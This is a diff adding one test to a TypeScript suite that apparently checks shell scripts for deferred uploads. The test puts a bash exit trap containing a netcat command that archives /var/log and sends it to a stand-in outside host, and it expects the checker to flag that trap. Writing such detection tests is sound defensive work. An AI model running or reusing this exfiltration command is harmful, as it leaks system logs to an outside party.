@@ -889,4 +889,12 @@ describe("a script's uploads that run later or by other means", () => {
     ].join("\n");
     expect(await named(instance(script)(oregon), "vm")).toEqual([]);
   });
+
+  test("fails when a trap's command sends to a host the pack cannot place; twin: one that cleans up passes", async () => {
+    const trap = (command: string) => instance(`#!/bin/bash\ntrap '${command}' EXIT\n./run.sh\n`);
+    expect(await named(trap("tar cz /var/log | nc backup.example.de 9000")(oregon), "vm")).toEqual([
+      offsite,
+    ]);
+    expect(await named(trap("rm -f /tmp/lock")(oregon), "vm")).toEqual([]);
+  });
 });
